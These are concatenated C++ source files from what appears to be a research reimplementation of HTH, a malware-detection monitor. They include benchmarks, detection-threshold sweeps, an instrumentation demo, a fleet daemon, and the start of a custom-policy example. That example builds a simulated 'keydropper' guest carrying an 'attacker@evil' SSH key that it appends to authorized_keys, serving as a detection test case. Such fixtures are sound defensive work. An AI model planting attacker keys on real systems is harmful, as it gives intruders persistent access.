        auto issues = analysis::lintPolicy(source);
        benchmark::DoNotOptimize(issues);
    }
    state.counters["bytes/s"] = benchmark::Counter(
        (double)source.size(),
        benchmark::Counter::kIsIterationInvariantRate);
}
BENCHMARK(BM_LintPolicy);

} // namespace

BENCHMARK_MAIN();
