/**
 * @file
 * Regenerates Table 5: HTH micro benchmarks — resource abuse.
 */

#include "bench/BenchUtil.hh"
#include "workloads/Micro.hh"

int
main()
{
    return hth::bench::runScenarioTable(
        "Table 5: Micro benchmarks - Resource Abuse",
        hth::workloads::resourceAbuseScenarios());
}
