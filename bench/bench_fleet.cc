/**
 * @file
 * Fleet and trace-layer throughput.
 *
 * BM_FleetSessions: sessions/sec over the mixed workload corpus
 * (all 61 scenarios) at 1/2/4/8 worker threads. Sessions are fully
 * independent, so on an N-core machine throughput should scale to
 * ~min(workers, N) — on a single-core container the expected curve
 * is flat (the recorded numbers say which machine produced them).
 *
 * BM_TraceWrite / BM_TraceReplay: serialization throughput (MB/s)
 * of the binary event-trace layer over the event stream the whole
 * corpus produces.
 */

#include <benchmark/benchmark.h>

#include <algorithm>
#include <sstream>
#include <thread>
#include <variant>

#include "fleet/FleetService.hh"
#include "trace/TraceReader.hh"
#include "trace/TraceWriter.hh"
#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

std::vector<Scenario>
corpus()
{
    std::vector<Scenario> all;
    for (auto &&list :
         {executionFlowScenarios(), resourceAbuseScenarios(),
          infoFlowScenarios(), macroScenarios(),
          trustedProgramScenarios(), exploitScenarios()})
        for (auto &s : list)
            all.push_back(std::move(s));
    return all;
}

std::vector<fleet::FleetJob>
corpusJobs()
{
    std::vector<fleet::FleetJob> jobs;
    for (const Scenario &s : corpus())
        jobs.push_back(toFleetJob(s));
    return jobs;
}

using AnyEvent = std::variant<harrier::ResourceAccessEvent,
                              harrier::ResourceIoEvent,
                              harrier::StaticFindingEvent>;

/** Captures the corpus event stream once for the trace benches. */
struct CaptureSink : harrier::EventSink
{
    std::vector<AnyEvent> events;
    void
    onResourceAccess(const harrier::ResourceAccessEvent &ev) override
    {
        events.push_back(ev);
    }
    void
    onResourceIo(const harrier::ResourceIoEvent &ev) override
    {
        events.push_back(ev);
    }
    void
    onStaticFinding(const harrier::StaticFindingEvent &ev) override
    {
        events.push_back(ev);
    }
};

const std::vector<AnyEvent> &
corpusEvents()
{
    static const std::vector<AnyEvent> events = [] {
        CaptureSink sink;
        for (const Scenario &s : corpus()) {
            HthOptions options;
            options.eventTap = &sink;
            runScenario(s, options);
        }
        return std::move(sink.events);
    }();
    return events;
}

void
writeAll(trace::TraceWriter &writer, const std::vector<AnyEvent> &events)
{
    for (const AnyEvent &ev : events)
        std::visit([&](const auto &e) {
            using T = std::decay_t<decltype(e)>;
            if constexpr (std::is_same_v<T,
                              harrier::ResourceAccessEvent>)
                writer.onResourceAccess(e);
            else if constexpr (std::is_same_v<T,
                                   harrier::ResourceIoEvent>)
                writer.onResourceIo(e);
            else
                writer.onStaticFinding(e);
        }, ev);
}

struct NullSink : harrier::EventSink
{
    void onResourceAccess(const harrier::ResourceAccessEvent &) override {}
    void onResourceIo(const harrier::ResourceIoEvent &) override {}
    void onStaticFinding(const harrier::StaticFindingEvent &) override {}
};

void
BM_FleetSessions(benchmark::State &state)
{
    const std::vector<fleet::FleetJob> jobs = corpusJobs();
    fleet::FleetConfig config;
    config.workers = (size_t)state.range(0);

    uint64_t sessions = 0;
    uint64_t queue_high_water = 0;
    uint64_t backpressure_stalls = 0;
    for (auto _ : state) {
        fleet::FleetReport report =
            fleet::FleetService::run(jobs, config);
        if (report.completed != jobs.size()) {
            state.SkipWithError("fleet session failed");
            break;
        }
        sessions += report.sessions;
        queue_high_water = std::max(
            queue_high_water,
            report.telemetry.metrics.gauge("fleet.queue_depth").max);
        backpressure_stalls += report.telemetry.metrics.counter(
            "fleet.backpressure_stalls");
        benchmark::DoNotOptimize(report.warnings);
    }
    state.counters["sessions_per_sec"] = benchmark::Counter(
        (double)sessions, benchmark::Counter::kIsRate);
    state.counters["hw_cores"] =
        (double)std::thread::hardware_concurrency();
    state.counters["queue_high_water"] = (double)queue_high_water;
    state.counters["backpressure_stalls"] =
        (double)backpressure_stalls;
}
BENCHMARK(BM_FleetSessions)
    ->ArgName("workers")
    ->Arg(1)
    ->Arg(2)
    ->Arg(4)
    ->Arg(8)
    ->UseRealTime()
    ->Unit(benchmark::kMillisecond);

void
BM_TraceWrite(benchmark::State &state)
{
    const std::vector<AnyEvent> &events = corpusEvents();
    uint64_t bytes = 0;
    for (auto _ : state) {
        std::ostringstream out;
        trace::TraceWriter writer(out);
        writeAll(writer, events);
        writer.finish();
        bytes += writer.stats().bytes;
        benchmark::DoNotOptimize(out);
    }
    state.SetBytesProcessed((int64_t)bytes);
    state.counters["events"] = (double)events.size();
}
BENCHMARK(BM_TraceWrite)->Unit(benchmark::kMillisecond);

void
BM_TraceReplay(benchmark::State &state)
{
    std::ostringstream out;
    trace::TraceWriter writer(out);
    writeAll(writer, corpusEvents());
    writer.finish();
    const std::string bytes = out.str();

    uint64_t processed = 0;
    for (auto _ : state) {
        std::istringstream in(bytes);
        trace::TraceReader reader(in);
        NullSink sink;
        benchmark::DoNotOptimize(reader.replay(sink));
        processed += bytes.size();
    }
    state.SetBytesProcessed((int64_t)processed);
    state.counters["trace_bytes"] = (double)bytes.size();
}
BENCHMARK(BM_TraceReplay)->Unit(benchmark::kMillisecond);

/**
 * Replay straight into a live expert system — the offline-analysis
 * hot path a centralized Secpert farm would run.
 */
void
BM_TraceReplayIntoSecpert(benchmark::State &state)
{
    std::ostringstream out;
    trace::TraceWriter writer(out);
    writeAll(writer, corpusEvents());
    writer.finish();
    const std::string bytes = out.str();

    uint64_t processed = 0;
    for (auto _ : state) {
        std::istringstream in(bytes);
        trace::TraceReader reader(in);
        secpert::Secpert secpert;
        benchmark::DoNotOptimize(reader.replay(secpert));
        processed += bytes.size();
    }
    state.SetBytesProcessed((int64_t)processed);
}
BENCHMARK(BM_TraceReplayIntoSecpert)->Unit(benchmark::kMillisecond);

} // namespace

BENCHMARK_MAIN();
