/**
 * @file
 * Regenerates Table 4: HTH micro benchmarks — execution flow.
 */

#include "bench/BenchUtil.hh"
#include "workloads/Micro.hh"

int
main()
{
    return hth::bench::runScenarioTable(
        "Table 4: Micro benchmarks - Execution Flow",
        hth::workloads::executionFlowScenarios());
}
