/**
 * @file
 * Parameter sweeps over the policy thresholds — the "figure"
 * counterpart to the paper's tables. Each sweep varies one workload
 * parameter and prints the warning series, making the detection
 * crossover points visible:
 *
 *   1. process count      → the §4.2 count threshold (Low)
 *   2. creation spacing   → the §4.2 rate window (Medium)
 *   3. sleep before execve → the §4.1 "started a while ago"
 *                            escalation (Low → Medium)
 *   4. heap growth        → the §10-extension memory rule (Low)
 */

#include <iostream>

#include "bench/BenchUtil.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::bench;
using namespace hth::workloads;
using secpert::Severity;

namespace
{

/** Forker with N children spaced by a sleep. */
std::shared_ptr<const vm::Image>
makeForker(int children, int spacing_ticks)
{
    Gasm a("/sweep/forker.exe");
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebp, 0);
    a.label("loop");
    a.fork();
    a.cmpi(Reg::Eax, 0);
    a.jz("child");
    if (spacing_ticks > 0)
        a.sleepTicks(spacing_ticks);
    a.addi(Reg::Ebp, 1);
    a.cmpi(Reg::Ebp, children);
    a.jl("loop");
    a.exit(0);
    a.label("child");
    a.exit(0);
    return a.build();
}

/** Sleep-then-execve guest. */
std::shared_ptr<const vm::Image>
makeSleeper(int sleep_ticks)
{
    Gasm a("/sweep/sleeper.exe");
    a.dataString("prog", "/bin/nothing");
    a.label("main");
    a.entry("main");
    if (sleep_ticks > 0)
        a.sleepTicks(sleep_ticks);
    a.execveSym("prog");
    a.exit(0);
    return a.build();
}

/** Heap eater growing by total_kb. */
std::shared_ptr<const vm::Image>
makeEater(int total_kb)
{
    Gasm a("/sweep/eater.exe");
    a.label("main");
    a.entry("main");
    int rounds = total_kb / 64;
    a.movi(Reg::Ebp, 0);
    a.label("eat");
    a.movi(Reg::Ebx, 0);
    a.sysc(os::NR_brk);
    a.mov(Reg::Ebx, Reg::Eax);
    a.movi(Reg::Ecx, 64 * 1024);
    a.add(Reg::Ebx, Reg::Ecx);
    a.sysc(os::NR_brk);
    a.addi(Reg::Ebp, 1);
    a.cmpi(Reg::Ebp, rounds > 0 ? rounds : 1);
    a.jl("eat");
    a.exit(0);
    return a.build();
}

Report
runImage(std::shared_ptr<const vm::Image> image,
         const HthOptions &options = {})
{
    Hth hth(options);
    hth.kernel().vfs().addBinary(image->path, image);
    return hth.monitor(image->path, {image->path});
}

} // namespace

int
main()
{
    std::vector<int> widths = {26, 10, 10, 10};

    std::cout << "Sweep 1: process-creation count "
                 "(threshold MAX_PROCESSES = 10)\n\n";
    rule(widths);
    row(widths, {"children forked", "count-Low", "rate-Med",
                 "max sev"});
    rule(widths);
    for (int n : {2, 6, 10, 11, 14, 20, 26}) {
        // Space forks far apart so only the count rule can fire.
        Report r = runImage(makeForker(n, 50000));
        row(widths,
            {std::to_string(n),
             std::to_string(r.countByRule("resource_abuse_count")),
             std::to_string(r.countByRule("resource_abuse_rate")),
             severityCell(r)});
    }
    rule(widths);
    std::cout << "Expected shape: silent through 10, Low from 11.\n";

    std::cout << "\nSweep 2: creation spacing "
                 "(window RATE_WINDOW = 400, RATE_MAX = 6)\n\n";
    rule(widths);
    row(widths, {"ticks between forks", "count-Low", "rate-Med",
                 "max sev"});
    rule(widths);
    for (int spacing : {0, 200, 2000, 20000, 100000}) {
        Report r = runImage(makeForker(9, spacing));
        row(widths,
            {std::to_string(spacing),
             std::to_string(r.countByRule("resource_abuse_count")),
             std::to_string(r.countByRule("resource_abuse_rate")),
             severityCell(r)});
    }
    rule(widths);
    std::cout << "Expected shape: Medium for dense spacing, quiet "
                 "once forks spread past the window.\n";

    std::cout << "\nSweep 3: sleep before a hard-coded execve "
                 "(LONG_TIME = 200 units = 20000 ticks)\n\n";
    rule(widths);
    row(widths, {"sleep ticks", "severity", "", ""});
    rule(widths);
    for (int sleep : {0, 5000, 15000, 25000, 60000, 200000}) {
        auto image = makeSleeper(sleep);
        Hth hth;
        hth.kernel().vfs().addBinary(image->path, image);
        Report r = hth.monitor(image->path, {image->path});
        row(widths, {std::to_string(sleep), severityCell(r), "", ""});
    }
    rule(widths);
    std::cout << "Expected shape: Low while young, Medium once the "
                 "program has 'started a while ago'.\n";

    std::cout << "\nSweep 4: heap growth "
                 "(MAX_HEAP_GROWTH = 1 MB for this sweep)\n\n";
    HthOptions mem_options;
    mem_options.policy.maxHeapGrowth = 1024 * 1024;
    rule(widths);
    row(widths, {"heap growth (KB)", "mem-Low", "", ""});
    rule(widths);
    for (int kb : {128, 512, 1024, 1088, 2048, 8192}) {
        Report r = runImage(makeEater(kb), mem_options);
        row(widths,
            {std::to_string(kb),
             std::to_string(r.countByRule("resource_abuse_memory")),
             "", ""});
    }
    rule(widths);
    std::cout << "Expected shape: a single Low warning once growth "
                 "crosses 1024 KB.\n";
    return 0;
}
