/**
 * @file
 * Regenerates Figure 5: how Harrier instruments code. The paper
 * shows an original instruction sequence next to the analysis calls
 * PIN inserts (Track_DataFlow before data-moving instructions,
 * Collect_BB_Frequency at block starts, Monitor_SystemCalls before
 * int 0x80). Here a recording instrumentor replays the same
 * structure from the live VM for the paper's example sequence.
 */

#include <iomanip>
#include <iostream>
#include <vector>

#include "taint/TagSet.hh"
#include "vm/Machine.hh"
#include "vm/TextAsm.hh"

using namespace hth;
using namespace hth::vm;

namespace
{

struct RecordingInstrumentor : Instrumentor
{
    struct Row
    {
        std::string insn;
        bool bbStart = false;
        bool dataFlow = false;
        bool syscall = false;
    };

    std::vector<Row> rows;
    bool pendingBb = false;

    void
    basicBlock(Machine &, uint32_t) override
    {
        pendingBb = true;
    }

    bool wantsInstructions() const override { return true; }

    void
    instruction(Machine &, const Instruction &insn, uint32_t) override
    {
        Row row;
        row.insn = insn.toString();
        row.bbStart = pendingBb;
        pendingBb = false;
        switch (insn.op) {
          case Opcode::MovRR:
          case Opcode::MovRI:
          case Opcode::Load:
          case Opcode::Store:
          case Opcode::LoadB:
          case Opcode::StoreB:
          case Opcode::Lea:
          case Opcode::Push:
          case Opcode::PushI:
          case Opcode::Pop:
          case Opcode::Add:
          case Opcode::AddI:
          case Opcode::Sub:
          case Opcode::And:
          case Opcode::Or:
          case Opcode::Xor:
          case Opcode::Mul:
          case Opcode::Shl:
          case Opcode::Shr:
          case Opcode::CpuId:
            row.dataFlow = true;
            break;
          default:
            break;
        }
        row.syscall = insn.op == Opcode::Int80;
        rows.push_back(std::move(row));
    }
};

} // namespace

int
main()
{
    // The paper's Figure 5 sequence, transliterated to the HVM:
    //   mov %eax,%edi / jne / mov $0,%ebx / xor %edx,%edx /
    //   mov %esi,%ecx / mov $5,%eax / int 80
    auto image = assemble("/fig5/sample.exe", R"(
        .entry main
        main:
            mov   edi, eax
            cmpi  eax, 0
            jnz   skip
        skip:
            movi  ebx, 0
            xor   edx, edx
            mov   ecx, esi
            movi  eax, 5        ; SYS_open
            int80
            halt
    )");

    taint::TagStore tags;
    Machine m(tags);
    m.setTaintTracking(true);
    RecordingInstrumentor recorder;
    m.setInstrumentor(&recorder);
    const LoadedImage &li = m.loadImage(image, 1);
    m.setEip(li.base + image->entry);
    while (!m.halted()) {
        StepResult r = m.step();
        if (r.kind == StepKind::Syscall) {
            // "Monitor_SystemCalls": pretend-resolve and continue.
            m.setReg(Reg::Eax, 3);
        }
    }

    std::cout << "Figure 5: Harrier instrumentation of the sample "
                 "sequence\n\n"
              << std::left << std::setw(26) << "original instruction"
              << "analysis calls inserted\n"
              << std::string(70, '-') << "\n";
    for (const auto &row : recorder.rows) {
        std::string calls;
        if (row.bbStart)
            calls += "Collect_BB_Frequency ";
        if (row.dataFlow)
            calls += "Track_DataFlow ";
        if (row.syscall)
            calls += "Monitor_SystemCalls ";
        if (calls.empty())
            calls = "-";
        std::cout << std::left << std::setw(26) << row.insn << calls
                  << "\n";
    }

    // Sanity: the int80 was monitored, every data-moving
    // instruction tracked, and at least two blocks were counted.
    int bbs = 0;
    bool monitored = false;
    for (const auto &row : recorder.rows) {
        bbs += row.bbStart ? 1 : 0;
        monitored = monitored || row.syscall;
    }
    std::cout << "\nblocks counted: " << bbs
              << ", system call monitored: "
              << (monitored ? "yes" : "NO") << "\n";
    return (bbs >= 2 && monitored) ? 0 : 1;
}
