/**
 * @file
 * hthd — the HTH fleet daemon front end.
 *
 * Batch-monitors a manifest of guest binaries (workload-corpus
 * scenario ids) across a worker pool, optionally recording one
 * binary event trace per session, and prints the aggregated fleet
 * report. Recorded traces can be re-analyzed later — against the
 * same or a newer policy — with --replay.
 *
 *   hthd --list
 *   hthd --workers 4 manifest.txt
 *   hthd --workers 4 --trace-dir traces
 *   hthd --replay traces/grabem.hthtrc
 *   hthd --stats-json stats.json --stats-interval 5
 *   hthd --baseline-record baselines --baseline-runs 5
 *   hthd --baseline baselines
 *   hthd --trace-spans fleet.trace.json
 *   hthd --explain verdicts
 *
 * --trace-spans turns on span tracing in every session and exports
 * one Chrome/Perfetto trace_event timeline, one pid/tid lane per
 * (session, worker). --explain writes each flagged session's
 * provenance graph (warning -> rule fire -> facts -> events ->
 * origins / static findings) as JSON and DOT and prints the
 * human-readable evidence chains; faulted sessions get their
 * flight-recorder window instead.
 *
 * --baseline-record runs every selected clean scenario N times
 * under varied seeds and writes one baseline profile per scenario;
 * --baseline (a profile file or the recorded directory) scores each
 * session's telemetry against its baseline and joins anomalous
 * verdicts into the expert system.
 *
 * A manifest names one scenario id per line (`#` starts a comment);
 * the line `all` expands to the whole corpus. Without a manifest
 * the whole corpus is run.
 *
 * As an example self-check, hthd exits nonzero when any session
 * fails or any completed session's verdict diverges from the
 * paper's classification.
 */

#include <atomic>
#include <cctype>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "anomaly/Baseline.hh"
#include "fleet/FleetService.hh"
#include "obs/Span.hh"
#include "obs/StatsSink.hh"
#include "secpert/Secpert.hh"
#include "support/Logging.hh"
#include "trace/TraceReader.hh"
#include "workloads/AnomalyCorpus.hh"
#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

std::vector<Scenario>
corpus()
{
    std::vector<Scenario> all;
    for (auto &&list :
         {executionFlowScenarios(), resourceAbuseScenarios(),
          infoFlowScenarios(), macroScenarios(),
          trustedProgramScenarios(), exploitScenarios(),
          anomalyScenarios()})
        for (auto &s : list)
            all.push_back(std::move(s));
    return all;
}

/** "vixie crontab" -> "vixie_crontab" (safe as a file name). */
std::string
sanitize(const std::string &id)
{
    std::string out;
    for (char c : id)
        out += std::isalnum((unsigned char)c) ? c : '_';
    return out;
}

int
replayTrace(const std::string &path)
{
    trace::TraceReader reader(path);
    secpert::Secpert secpert;
    uint64_t events = reader.replay(secpert);

    std::cout << "replayed " << events << " events from " << path
              << "\n";
    if (!secpert.transcript().empty())
        std::cout << secpert.transcript();
    std::cout << secpert.warnings().size() << " warnings";
    if (!secpert.warnings().empty())
        std::cout << ", max severity "
                  << secpert::severityName(
                         secpert::maxSeverity(secpert.warnings()));
    std::cout << "\n";
    return 0;
}

std::vector<std::string>
readManifest(const std::string &path)
{
    std::ifstream in(path);
    fatalIf(!in, "hthd: cannot read manifest ", path);
    std::vector<std::string> ids;
    std::string line;
    while (std::getline(in, line)) {
        if (auto hash = line.find('#'); hash != std::string::npos)
            line.erase(hash);
        while (!line.empty() && std::isspace((unsigned char)line.back()))
            line.pop_back();
        size_t start = 0;
        while (start < line.size() &&
               std::isspace((unsigned char)line[start]))
            ++start;
        line.erase(0, start);
        if (!line.empty())
            ids.push_back(line);
    }
    return ids;
}

int
usage()
{
    std::cerr <<
        "usage: hthd [options] [manifest-file]\n"
        "  --list             print every scenario id and exit\n"
        "  --workers N        worker threads (default: hardware)\n"
        "  --queue N          job-queue capacity (backpressure)\n"
        "  --tick-budget N    cap every session at N virtual ticks\n"
        "  --trace-dir DIR    record one event trace per session\n"
        "  --replay FILE      re-analyze a recorded trace and exit\n"
        "  --no-superblocks   disable the trace-linking VM engine\n"
        "  --summary-only     suppress per-session result lines\n"
        "  --stats-json FILE  write fleet telemetry as JSON lines\n"
        "  --stats-interval N progress line to stderr every N s\n"
        "                     (default 0 = off)\n"
        "  --baseline-record DIR  record clean baselines (one per\n"
        "                     selected non-malicious scenario), exit\n"
        "  --baseline-runs N  seeded runs per baseline (default 5)\n"
        "  --baseline PATH    score sessions against PATH: a profile\n"
        "                     file (applied to every session) or a\n"
        "                     --baseline-record directory (matched\n"
        "                     per scenario id)\n"
        "  --trace-spans FILE export a Chrome/Perfetto trace_event\n"
        "                     timeline (one pid/tid lane per\n"
        "                     session/worker)\n"
        "  --explain DIR      write per-verdict provenance graphs\n"
        "                     (JSON + DOT) and print the evidence\n"
        "                     chain behind every flagged session\n";
    return 2;
}

int
run(int argc, char **argv)
{
    fleet::FleetConfig config;
    std::string trace_dir;
    std::string manifest_path;
    std::string stats_json;
    std::string baseline_record_dir;
    std::string baseline_path;
    std::string trace_spans;
    std::string explain_dir;
    uint32_t baseline_runs = 5;
    unsigned stats_interval = 0;
    bool summary_only = false;
    HthOptions session_options;

    for (int i = 1; i < argc; ++i) {
        std::string arg = argv[i];
        auto value = [&]() -> std::string {
            fatalIf(i + 1 >= argc, "hthd: ", arg, " needs a value");
            return argv[++i];
        };
        if (arg == "--list") {
            for (const Scenario &s : corpus())
                std::cout << s.id << "\n";
            return 0;
        } else if (arg == "--workers") {
            config.workers = (size_t)std::stoul(value());
        } else if (arg == "--queue") {
            config.queueCapacity = (size_t)std::stoul(value());
        } else if (arg == "--tick-budget") {
            config.tickBudget = (uint64_t)std::stoull(value());
        } else if (arg == "--trace-dir") {
            trace_dir = value();
        } else if (arg == "--replay") {
            return replayTrace(value());
        } else if (arg == "--no-superblocks") {
            session_options.superblocks = false;
        } else if (arg == "--summary-only") {
            summary_only = true;
        } else if (arg == "--stats-json") {
            stats_json = value();
        } else if (arg == "--stats-interval") {
            stats_interval = (unsigned)std::stoul(value());
        } else if (arg == "--baseline-record") {
            baseline_record_dir = value();
        } else if (arg == "--baseline-runs") {
            baseline_runs = (uint32_t)std::stoul(value());
            fatalIf(baseline_runs == 0,
                    "hthd: --baseline-runs must be positive");
        } else if (arg == "--baseline") {
            baseline_path = value();
        } else if (arg == "--trace-spans") {
            trace_spans = value();
            session_options.spanTrace = true;
        } else if (arg == "--explain") {
            explain_dir = value();
        } else if (!arg.empty() && arg[0] == '-') {
            return usage();
        } else {
            manifest_path = arg;
        }
    }

    std::vector<Scenario> all = corpus();
    std::map<std::string, const Scenario *> by_id;
    for (const Scenario &s : all)
        by_id[s.id] = &s;

    std::vector<const Scenario *> selected;
    if (manifest_path.empty()) {
        for (const Scenario &s : all)
            selected.push_back(&s);
    } else {
        for (const std::string &id : readManifest(manifest_path)) {
            if (id == "all") {
                for (const Scenario &s : all)
                    selected.push_back(&s);
                continue;
            }
            auto it = by_id.find(id);
            if (it == by_id.end()) {
                std::cerr << "hthd: unknown scenario '" << id
                          << "' (try --list)\n";
                return 2;
            }
            selected.push_back(it->second);
        }
    }

    if (!baseline_record_dir.empty()) {
        std::filesystem::create_directories(baseline_record_dir);
        size_t recorded = 0, skipped = 0;
        for (const Scenario *s : selected) {
            // A baseline is a model of *trusted* behaviour; profiling
            // a known-malicious scenario would launder its telemetry
            // into the reference distribution.
            if (s->expectMalicious) {
                ++skipped;
                continue;
            }
            anomaly::BaselineProfile profile =
                recordScenarioBaseline(*s, baseline_runs,
                                       session_options);
            std::string path = baseline_record_dir + "/" +
                               sanitize(s->id) + ".baseline";
            anomaly::saveBaseline(path, profile);
            std::cout << "  recorded " << path << " ("
                      << profile.samples << " runs, "
                      << profile.metrics.size() << " metrics)\n";
            ++recorded;
        }
        std::cout << "hthd: " << recorded << " baselines recorded, "
                  << skipped << " malicious scenarios skipped\n";
        return 0;
    }

    std::shared_ptr<const anomaly::BaselineProfile> shared_baseline;
    bool baseline_is_dir = false;
    if (!baseline_path.empty()) {
        if (std::filesystem::is_directory(baseline_path))
            baseline_is_dir = true;
        else
            shared_baseline =
                std::make_shared<anomaly::BaselineProfile>(
                    anomaly::loadBaseline(baseline_path));
    }

    if (!trace_dir.empty())
        std::filesystem::create_directories(trace_dir);

    fleet::FleetService service(config);
    std::cout << "hthd: " << selected.size() << " sessions on "
              << service.workers() << " workers\n";

    // The periodic stats line sleeps in short slices so shutdown
    // never waits a whole interval.
    std::atomic<bool> stats_stop{false};
    std::thread stats_thread;
    if (stats_interval > 0) {
        stats_thread = std::thread([&] {
            using namespace std::chrono;
            auto next = steady_clock::now() +
                        seconds(stats_interval);
            while (!stats_stop.load()) {
                std::this_thread::sleep_for(milliseconds(100));
                if (steady_clock::now() < next)
                    continue;
                next += seconds(stats_interval);
                std::cerr << service.statusLine() << "\n";
            }
        });
    }

    for (const Scenario *s : selected) {
        std::string trace_path;
        if (!trace_dir.empty())
            trace_path =
                trace_dir + "/" + sanitize(s->id) + ".hthtrc";
        HthOptions opts = session_options;
        if (shared_baseline) {
            // One profile judging every session: a deliberate
            // cross-scenario comparison, so the name check is off.
            opts.baseline = shared_baseline;
            opts.baselineRunName = s->id;
            opts.scorer.allowNameMismatch = true;
        } else if (baseline_is_dir) {
            std::string profile_path = baseline_path + "/" +
                                       sanitize(s->id) + ".baseline";
            if (std::filesystem::exists(profile_path)) {
                opts.baseline =
                    std::make_shared<anomaly::BaselineProfile>(
                        anomaly::loadBaseline(profile_path));
                opts.baselineRunName = s->id;
            }
        }
        service.submit(toFleetJob(*s, opts, trace_path));
    }
    fleet::FleetReport report = service.finish();
    if (stats_thread.joinable()) {
        stats_stop.store(true);
        stats_thread.join();
    }

    if (!stats_json.empty()) {
        std::ofstream out(stats_json);
        fatalIf(!out, "hthd: cannot write ", stats_json);
        out << "{\"type\":\"fleet\",\"schema_version\":3"
            << ",\"sessions\":" << report.sessions
            << ",\"completed\":" << report.completed
            << ",\"failed\":" << report.failed
            << ",\"cancelled\":" << report.cancelled
            << ",\"flagged\":" << report.flagged
            << ",\"warnings\":" << report.warnings
            << ",\"wall_seconds\":" << report.wallSeconds << "}\n";
        // Always present, even with no baseline configured, so
        // consumers can distinguish "anomaly detection off" from
        // "on and nothing scored".
        out << "{\"type\":\"anomaly\",\"enabled\":"
            << (baseline_path.empty() ? "false" : "true")
            << ",\"baseline\":\"" << obs::jsonEscape(baseline_path)
            << "\",\"scored\":" << report.anomalyScored
            << ",\"anomalous\":" << report.anomalous << "}\n";
        obs::writeJsonLines(report.telemetry, out);
    }

    if (!trace_spans.empty()) {
        // One lane per completed session: pid = session, tid = the
        // worker that ran it, so Perfetto groups the timeline the
        // way the fleet actually executed it.
        std::vector<obs::SpanLane> lanes;
        for (const fleet::FleetResult &r : report.results) {
            if (!r.completed || r.report.spans.empty())
                continue;
            obs::SpanLane lane;
            lane.pid = (int)r.index + 1;
            lane.tid = r.worker >= 0 ? r.worker + 1 : 1;
            lane.processName = r.id;
            lane.threadName =
                "worker " + std::to_string(lane.tid - 1);
            lane.spans = r.report.spans;
            lane.dropped = r.report.spansDropped;
            lanes.push_back(std::move(lane));
        }
        std::ofstream out(trace_spans);
        fatalIf(!out, "hthd: cannot write ", trace_spans);
        obs::writeTraceJson(lanes, out);
        std::cout << "span trace (" << lanes.size()
                  << " lanes) written to " << trace_spans << "\n";
    }

    if (!explain_dir.empty()) {
        std::filesystem::create_directories(explain_dir);
        size_t explained = 0;
        for (const fleet::FleetResult &r : report.results) {
            if (r.completed && !r.report.provenance.empty()) {
                std::string base =
                    explain_dir + "/" + sanitize(r.id);
                {
                    std::ofstream out(base + ".provenance.json");
                    fatalIf(!out, "hthd: cannot write ", base,
                            ".provenance.json");
                    r.report.provenance.writeJson(out);
                }
                {
                    std::ofstream out(base + ".provenance.dot");
                    fatalIf(!out, "hthd: cannot write ", base,
                            ".provenance.dot");
                    out << r.report.provenance.toDot();
                }
                std::cout << "=== " << r.id << " ===\n"
                          << r.report.provenance.renderChains();
                ++explained;
            } else if (!r.completed && !r.flightLog.empty()) {
                // Faulted session: no provenance, but the flight
                // recorder kept the last events before the throw.
                std::string path = explain_dir + "/" +
                                   sanitize(r.id) + ".flight.txt";
                std::ofstream out(path);
                fatalIf(!out, "hthd: cannot write ", path);
                for (const std::string &line : r.flightLog)
                    out << line << "\n";
                std::cout << "=== " << r.id
                          << " (faulted; flight recorder in " << path
                          << ") ===\n";
            }
        }
        std::cout << explained << " provenance graphs written to "
                  << explain_dir << "/\n";
    }

    int divergent = 0;
    for (const fleet::FleetResult &r : report.results) {
        const Scenario &s = *selected[r.index];
        std::string verdict;
        if (r.cancelled) {
            verdict = "cancelled";
        } else if (!r.completed) {
            verdict = "FAILED: " + r.error;
        } else {
            verdict = r.report.flagged()
                          ? std::string("flagged ") +
                                secpert::severityName(
                                    r.report.maxSeverity())
                          : "clean";
            if (r.report.flagged() != s.expectMalicious) {
                verdict += " (DIVERGES from paper)";
                ++divergent;
            }
            // Static-analysis signal, independent of the dynamic
            // verdict: a dormant trojan shows up here even when the
            // monitored run itself stayed clean.
            size_t taint_paths = 0, triggers = 0;
            for (const auto &f : r.report.staticFindings) {
                if (f.kind == "TAINT_PATH")
                    ++taint_paths;
                else if (f.kind == "TRIGGER_HYPOTHESIS")
                    ++triggers;
            }
            if (taint_paths || triggers)
                verdict += " [static: " +
                           std::to_string(taint_paths) +
                           " taint-path, " + std::to_string(triggers) +
                           " trigger-hypothesis]";
            if (r.report.anomalyScored) {
                std::ostringstream az;
                az.setf(std::ios::fixed);
                az.precision(2);
                az << " [anomaly: score "
                   << r.report.anomaly.aggregate << " vs baseline "
                   << r.report.anomaly.baselineName;
                if (r.report.anomaly.anomalous &&
                    !r.report.anomaly.top.empty())
                    az << ", ANOMALOUS, worst metric "
                       << r.report.anomaly.top.front().metric;
                az << "]";
                verdict += az.str();
            }
        }
        if (!summary_only)
            std::cout << "  [" << r.index << "] " << r.id << ": "
                      << verdict << "\n";
    }

    std::cout << report.summary(true);
    if (!trace_dir.empty())
        std::cout << "traces recorded in " << trace_dir << "/\n";

    if (report.failed > 0 || divergent > 0) {
        std::cerr << "hthd: " << report.failed << " failed, "
                  << divergent << " divergent\n";
        return 1;
    }
    return 0;
}

} // namespace

int
main(int argc, char **argv)
{
    try {
        return run(argc, argv);
    } catch (const FatalError &e) {
        std::cerr << "hthd: " << e.what() << std::endl;
        return 2;
    }
}
