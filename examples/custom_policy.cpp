/**
 * @file
 * Writing your own Secpert policy rules.
 *
 * The HTH policy is an ordinary CLIPS rule base, so a deployment
 * can extend it without touching C++: this example adds a rule
 * that escalates any write to an SSH-related path to HIGH, and a
 * rule that flags programs reading processor identification
 * (HARDWARE data) at all. It also shows the embedded CLIPS
 * environment used directly as an expert-system library.
 */

#include <iostream>

#include "core/Hth.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;

int
main()
{
    //
    // A guest that appends a key to authorized_keys and stores the
    // CPU identification in a report file. Both target files are
    // named by the *user* here, so the stock §4.3 policy stays
    // quiet — the custom rules below catch it anyway.
    //
    Gasm a("/demo/keydropper.exe");
    a.dataString("pubkey", "ssh-rsa AAAAB3NzaC attacker@evil\n");
